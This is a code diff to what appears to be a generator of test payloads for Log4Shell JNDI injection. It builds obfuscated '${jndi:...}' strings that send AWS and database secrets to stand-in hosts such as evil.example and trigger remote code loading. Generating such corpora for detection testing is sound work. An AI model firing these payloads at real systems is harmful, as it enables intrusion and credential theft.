@@ -16,11 +16,13 @@ LEAKS = ("", "", "${env:AWS_SECRET_ACCESS_KEY}.", "${sys:java.version}.", "${env
          "${java:os}.", "${env:DB_PASSWORD}.")
 
 
-def _letter(ch: str, rng: random.Random) -> str:
+def _letter(ch: str, rng: random.Random, keep_case: bool) -> str:
+    """One letter as a nested lookup that resolves to it (upper-cased only where case does not
+    matter: Log4j lower-cases the lookup's prefix, not the JNDI URL scheme)."""
     form = rng.randrange(7)
     if form == 0:
         return "${lower:" + ch.upper() + "}"
-    if form == 1:
+    if form == 1 and not keep_case:
         return "${upper:" + ch + "}"
     if form == 2:
         return "${::-" + ch + "}"
@@ -31,17 +33,17 @@ def _letter(ch: str, rng: random.Random) -> str:
     return ch
 
 
-def _word(word: str, rng: random.Random) -> str:
+def _word(word: str, rng: random.Random, keep_case: bool) -> str:
     if rng.random() < 0.35:
-        return case(word, rng)  # Log4j lower-cases a lookup's prefix, URL schemes are case-insensitive
-    return "".join(_letter(c, rng) for c in word)
+        return word if keep_case else case(word, rng)
+    return "".join(_letter(c, rng, keep_case) for c in word)
 
 
 def _compose(rng: random.Random) -> str:
     proto = one(rng, PROTOCOLS)
     host = one(rng, LEAKS) + one(rng, ("evil.example", "10.0.0.9:1389", "x.oast.example", "127.0.0.1:1099"))
     path = one(rng, ("/a", "/Exploit", "/o=tomcat", "/x", "/Basic/Command/Base64/aWQ="))
-    return "${" + _word("jndi", rng) + ":" + _word(proto, rng) + "://" + host + path + "}"
+    return "${" + _word("jndi", rng, False) + ":" + _word(proto, rng, True) + "://" + host + path + "}"
 
 
 def attacks(rng: random.Random, n: int) -> list[Attack]:
